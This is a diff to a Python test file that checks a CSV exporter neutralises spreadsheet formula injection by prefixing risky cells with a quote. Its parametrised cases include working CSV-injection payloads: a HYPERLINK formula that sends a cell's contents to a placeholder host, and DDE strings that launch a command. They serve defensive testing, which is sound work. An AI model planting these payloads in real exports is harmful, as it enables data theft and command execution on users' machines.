@@ -14,9 +14,44 @@ SHEET = Sheet(
 )
 
 
-def test_csv_gives_back_the_strings() -> None:
-    assert list(csv.reader(io.StringIO(as_csv([SHEET]).decode()))) == [list(r) for r in (SHEET.header, *SHEET.rows)]
+def test_csv_gives_back_the_strings_and_no_formula() -> None:
+    rows = [[f"'{c}" if c.startswith("=") else c for c in r] for r in (SHEET.header, *SHEET.rows)]
+    assert list(csv.reader(io.StringIO(as_csv([SHEET]).decode()))) == rows
     assert as_csv([SHEET, SHEET]).decode().count("收支总表") == 2
+
+
+@pytest.mark.parametrize(
+    ("text", "inert"),
+    [
+        ('=HYPERLINK("http://x/?"&A1)', True),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", True),
+        ("-培训费", True),
+        ("+1+cmd|' /C calc'!A0", True),
+        ("-1 +cmd|' /C calc'!A0", True),
+        ("-2+3", True),
+        ("\t=1+1", True),
+        ("\r=1+1", True),
+        ("\n=1+1", True),
+        ("-3.22*万元", True),
+        ("+3,205.79 万元", False),
+        ("-3.22万元", False),
+        ("-0.50", False),
+        ("−0.50", False),
+        ("+5.5%", False),
+        ("-1,507.56", False),
+        ("-", False),
+        ("—", False),
+        ("1,507.56", False),
+        ("培训费", False),
+        ("", False),
+    ],
+)
+def test_what_a_spreadsheet_would_work_out_stays_text(text: str, inert: bool) -> None:
+    sheet = Sheet(title=text, header=(text, "金额"), rows=((text, "3.00"),))
+    written = list(csv.reader(io.StringIO(as_csv([sheet, sheet]).decode(), newline="")))
+    told = {row[0] for row in written if row}
+    kept = text.replace("\r", "\n")
+    assert told == {f"'{kept}" if inert else kept}
 
 
 def test_xlsx_gives_back_the_strings() -> None:
